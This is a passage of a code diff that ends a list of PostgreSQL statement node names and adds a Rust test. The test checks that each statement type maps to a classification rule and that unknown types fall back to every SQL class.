+    "CreateSubscriptionStmt", "CreateTableAsStmt", "CreateTableSpaceStmt",
+    "CreateTransformStmt", "CreateTrigStmt", "CreateUserMappingStmt", "CreatedbStmt",
+    "DeallocateStmt", "DeclareCursorStmt", "DefineStmt", "DeleteStmt", "DiscardStmt", "DoStmt",
+    "DropOwnedStmt", "DropRoleStmt", "DropStmt", "DropSubscriptionStmt", "DropTableSpaceStmt",
+    "DropUserMappingStmt", "DropdbStmt", "ExecuteStmt", "ExplainStmt", "FetchStmt",
+    "GrantRoleStmt", "GrantStmt", "ImportForeignSchemaStmt", "IndexStmt", "InsertStmt",
+    "ListenStmt", "LoadStmt", "LockStmt", "MergeStmt", "NotifyStmt", "PlassignStmt",
+    "PrepareStmt", "RawStmt", "ReassignOwnedStmt", "RefreshMatViewStmt", "ReindexStmt",
+    "RenameStmt", "ReplicaIdentityStmt", "ReturnStmt", "RuleStmt", "SecLabelStmt", "SelectStmt",
+    "SetOperationStmt", "TransactionStmt", "TruncateStmt", "UnlistenStmt", "UpdateStmt",
+    "VacuumStmt", "VariableSetStmt", "VariableShowStmt", "ViewStmt",
+];
+
+#[test]
+fn every_statement_type_has_a_rule_and_unknown_ones_get_every_class() {
+    for tag in STATEMENT_TYPES {
+        let (command, _) = walk::bare_statement(tag);
+        let placeholder = matches!(*tag, "PlassignStmt" | "SetOperationStmt" | "RawStmt");
+        assert!(
+            placeholder || command != *tag,
+            "{tag} falls to the fallback"
+        );
+    }
+    let (command, classes) = walk::bare_statement("FutureStmt");
+    assert_eq!(command, "FutureStmt");
+    assert_eq!(classes, SqlClass::ALL.into_iter().collect());
+}
